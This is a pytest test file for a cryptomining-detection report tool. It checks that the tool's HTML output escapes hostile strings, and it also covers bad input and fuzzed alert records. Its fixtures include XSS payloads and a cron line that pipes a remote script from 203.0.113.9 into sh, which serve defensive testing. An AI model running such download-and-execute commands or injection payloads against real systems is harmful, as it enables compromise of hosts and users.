"""`netdetect report`: the JSON document, the HTML it draws, hostile strings, bad input."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from test_campaign import WALLET_A, alert, host_report

from netdetect.campaign import CampaignBook
from netdetect.report import ALERT_ROWS, build, read_eve, render_html
from netdetect.sinks.eve import EveWriter

REPO = Path(__file__).resolve().parents[1]

HOSTILE_POOL = '<script>alert("pool")</script>.pool.example'
HOSTILE_LOGIN = '"><img src=x onerror=alert(1)>' + WALLET_A
HOSTILE_CRON = "*/5 * * * * curl http://203.0.113.9/x.sh | sh </code><script>alert(2)</script>"
HOSTILE_HOST = "web-01<svg/onload=alert(3)>"


def eve_lines(alerts: list[Any]) -> str:
    buf = io.StringIO()
    eve = EveWriter(buf)
    book = CampaignBook()
    for a in alerts:
        eve.write(book.tag(a))
    return buf.getvalue()


def records(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def hostile_alerts() -> list[Any]:
    report = host_report(HOSTILE_HOST, cron=HOSTILE_CRON)
    return [alert(1, "10.0.0.1", "198.51.100.1", pool_host=HOSTILE_POOL, login=HOSTILE_LOGIN,
                  agent="XMRig</td><marquee>x", host_id=HOSTILE_HOST, report=report),
            alert(2, "10.0.0.2", "198.51.100.1", pool_host=HOSTILE_POOL, login=HOSTILE_LOGIN)]


def test_hostile_strings_are_text_not_markup() -> None:
    html = render_html(build(records(eve_lines(hostile_alerts()))))
    parsed = Elements()
    parsed.feed(html)
    # No element or attribute from the wire: no script at all, no img, marquee, onload.
    assert "script" not in parsed.tags
    assert "img" not in parsed.tags
    assert "marquee" not in parsed.tags
    assert not any(name.startswith("on") for name, _ in parsed.attrs)
    text = "".join(parsed.text)
    for hostile in (HOSTILE_POOL, HOSTILE_LOGIN.split(WALLET_A)[0], HOSTILE_CRON, HOSTILE_HOST):
        assert hostile in text, hostile  # shown to the reader, as text
    assert "&lt;script&gt;" in html


def test_json_and_html_carry_the_same_campaigns() -> None:
    cron = "*/10 * * * * /tmp/.x/kworker -B"
    alerts = [alert(n, f"10.0.0.{n}", "198.51.100.1", login=f"{WALLET_A}.rig{n}",
                    host_id=f"web-{n}", report=host_report(f"web-{n}", cron=cron))
              for n in range(1, 4)]
    alerts.append(alert(9, "10.0.9.9", "203.0.113.5", agent="cgminer/4.10.0"))
    doc = build(records(eve_lines(alerts)))
    s = doc["summary"]
    assert (s["campaigns"], s["alerts"], s["hosts"]) == (2, 4, 4)
    assert s["wallets"] == [WALLET_A]
    top = doc["campaigns"][0]
    assert set(top["hosts"]) == {"web-1", "web-2", "web-3"}
    assert top["severity"] == "critical"
    assert {"T1053.003", "T1496"} <= set(top["techniques"])
    row = top["alert_rows"][0]
    assert row["process"]["cmdline"] == ["/tmp/kworker", "-B"]
    assert row["persistence"][0]["where"] == "/var/spool/cron/crontabs/root:2"
    html = render_html(doc)
    assert f"{s['campaigns']} campaign(s) on {s['hosts']}" in html
    assert cron in html
    assert "/var/spool/cron/crontabs/root:2" in html
    assert json.loads(json.dumps(doc, default=str)) == json.loads(
        json.dumps(doc, default=str))  # the JSON form is plain data


def test_thousands_of_alerts_are_aggregated_in_html_and_complete_in_json() -> None:
    alerts = [alert(n, "10.0.0.1", f"198.51.{n // 250}.{n % 250}", agent="cgminer/3.7.2")
              for n in range(2000)]
    doc = build(records(eve_lines(alerts)))
    (c,) = doc["campaigns"]
    assert len(c["alert_rows"]) == 2000  # the JSON keeps every alert
    html = render_html(doc)
    assert html.count('<div class="pair">') == ALERT_ROWS  # the HTML shows the newest
    assert f"showing the newest {ALERT_ROWS} of 2000 alerts" in html
    assert len(c["timeline"]["lanes"]) == 1
    assert len(c["graph"]["nodes"]) <= 2 + 13  # hosts + folded pools
    assert len(html) < 400_000


def test_broken_lines_are_named_and_the_rest_is_kept(tmp_path: Path) -> None:
    good = eve_lines([alert(1, "10.0.0.1", "198.51.100.1", login=WALLET_A)])
    path = tmp_path / "eve.json"
    path.write_text('{"event_type":"stats"}\n' + good + "{not json\n[1,2]\n" + good,
                    encoding="utf-8")
    recs, errors = read_eve([str(path), str(tmp_path / "missing.json")])
    assert len(recs) == 2
    assert errors[0].startswith(f"{path}:3: not a JSON line")
    assert errors[1] == f"{path}:4: not a JSON object"
    assert errors[2].startswith(f"{tmp_path / 'missing.json'}: ")


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "netdetect", "report", *args],
                          capture_output=True, text=True, cwd=REPO, timeout=300, check=False)


def test_cli_reads_eve_and_replays_captures(tmp_path: Path) -> None:
    eve = tmp_path / "demo.eve.json"
    eve.write_text(eve_lines(hostile_alerts()), encoding="utf-8")
    out, js = tmp_path / "r.html", tmp_path / "r.json"
    proc = _cli(str(eve), "pcaps/proxy_stratum.pcap", "-o", str(out), "--json", str(js))
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(js.read_text(encoding="utf-8"))
    assert doc["summary"]["alerts"] == 2 + 21
    assert any(p["hub"] == "10.30.0.10" for c in doc["campaigns"] for p in c["proxies"])
    assert "report: 23 alert(s) in 2 campaign(s)" in proc.stderr
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_cli_names_bad_input_exits_2_and_still_writes(tmp_path: Path) -> None:
    eve = tmp_path / "eve.json"
    eve.write_text(eve_lines([alert(1, "10.0.0.1", "198.51.100.1")]) + "{oops\n",
                   encoding="utf-8")
    out = tmp_path / "r.html"
    proc = _cli(str(eve), str(tmp_path / "nope.pcap"), "-o", str(out))
    assert proc.returncode == 2
    assert f"{eve}:2: not a JSON line" in proc.stderr
    assert "nope.pcap" in proc.stderr
    assert "1 alert(s) in 1 campaign(s)" in proc.stderr
    assert out.is_file()


def test_cli_unwritable_output_is_a_clear_error(tmp_path: Path) -> None:
    eve = tmp_path / "eve.json"
    eve.write_text(eve_lines([alert(1, "10.0.0.1", "198.51.100.1")]), encoding="utf-8")
    proc = _cli(str(eve), "-o", str(tmp_path / "no" / "such" / "dir.html"))
    assert proc.returncode == 2
    assert "cannot write the report" in proc.stderr
    assert "Traceback" not in proc.stderr


JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner,
                                                                max_size=3),
    max_leaves=8)


def _paths(node: Any, prefix: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    out = [prefix] if prefix else []
    if isinstance(node, dict):
        for k, v in node.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(node, list):
        for n, v in enumerate(node):
            out += _paths(v, (*prefix, n))
    return out


HOSTILE_RECORD = records(eve_lines(hostile_alerts()))[0]
FIELD_PATHS = [p for p in _paths(HOSTILE_RECORD) if p != ("event_type",)]  # else: skipped


@settings(max_examples=400, deadline=None)
@given(path=st.sampled_from(FIELD_PATHS), value=JSONISH)
@example(path=("netdetect", "score"), value=float("inf"))  # json writes it as Infinity
def test_damaged_alert_records_are_named_or_reported_never_a_crash(
        tmp_path_factory: pytest.TempPathFactory, path: tuple[str | int, ...],
        value: Any) -> None:
    """Any field of a real alert record (with a host report) replaced by any JSON value:
    the record is either reported on or named as broken (`path:line`), never a crash."""
    rec = json.loads(json.dumps(HOSTILE_RECORD))
    node: Any = rec
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    f = tmp_path_factory.mktemp("fuzz") / "eve.json"
    f.write_text(json.dumps(rec) + "\n", encoding="utf-8")
    recs, errors = read_eve([str(f)])
    assert len(recs) + len(errors) == 1
    assert all(e.startswith(f"{f}:1: ") for e in errors)
    doc = build(recs)
    assert doc["summary"]["alerts"] == len(recs)
    assert "<!DOCTYPE html>" in render_html(doc)
